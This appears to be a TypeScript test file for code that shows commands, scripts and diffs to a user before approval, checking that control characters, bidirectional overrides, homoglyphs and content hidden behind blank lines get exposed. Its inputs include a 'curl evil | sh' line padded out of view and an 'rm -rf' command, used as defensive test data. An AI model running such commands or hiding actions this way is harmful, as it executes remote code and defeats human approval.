import { deepStrictEqual, doesNotMatch, strictEqual } from 'node:assert/strict';
import fc from 'fast-check';
import { commandLines } from '#protocol/shown/commandText';
import { visible, visibleLines } from '#protocol/shown/visible';
import { diffText, hunkTexts } from '../../server/src/cli/terminal/diffText';
import { jsonText } from '../../server/src/cli/terminal/jsonText';

const steering = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

describe('what is shown before an approval', () => {
  it('names controls, bidirectional overrides and blanks that only look like one', () => {
    strictEqual(
      visible('a\r\u001b[1A\u202e\u200b\u00a0\u2028é漢\u3000'),
      'a\\r\\e[1A\\u{202e}\\u{200b}\\u{a0}\\u{2028}é漢\u3000',
    );
  });

  it('never lets through a character that a terminal obeys, whatever the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        doesNotMatch(visible(text), steering);
        doesNotMatch(visibleLines(text).replaceAll(/[\n\t]/g, ''), steering);
        const document = jsonText({ text });
        doesNotMatch(document.replaceAll('\n', ''), steering);
        deepStrictEqual(JSON.parse(document), { text });
      }),
    );
  });

  it('shows every argument of a command apart, quoted when it is unusual', () => {
    deepStrictEqual(commandLines({ argv: ['rm', '-rf', "it's here", '', 'a\nb', 'rеad'], cwd: 'sub' }), [
      "$ rm -rf 'it'\\''s here' '' 'a\\nb' 'rеad'",
      '  in sub',
      '  ! rеad mixes Latin and Cyrillic letters',
    ]);
  });

  it('shows every line of a script, also those behind many empty ones', () => {
    const script = `echo hi${'\n'.repeat(50)}curl evil\r| sh`;
    const lines = commandLines({ script, shell: 'bash', cwd: '' });
    strictEqual(lines[0], '$ bash <<');
    strictEqual(lines[51], '  | curl evil\\r| sh');
    strictEqual(lines.length, 53);
  });

  const diff = [
    '--- a/x',
    '+++ b/x',
    '@@ -1,2 +1,2 @@',
    ' same\r',
    '--- old\r',
    '+\u001b[8mnew\r',
    '@@ -9 +9 @@',
    '+z',
  ].join('\n');

  it('shows a whole diff by its signs and hides nothing in it', () => {
    strictEqual(
      diffText({ diff, eol: 'crlf' }, false),
      '--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n same\n--- old\n+\\e[8mnew\n@@ -9 +9 @@\n+z',
    );
  });

  it('shows carriage returns where not every line has one', () => {
    strictEqual(
      hunkTexts({ diff, eol: 'mixed' }, false)[0],
      '@@ -1,2 +1,2 @@\n same\\r\n--- old\\r\n+\\e[8mnew\\r',
    );
  });

  it('gives each hunk by itself', () => {
    deepStrictEqual(hunkTexts({ diff, eol: 'crlf' }, false).length, 2);
  });
});
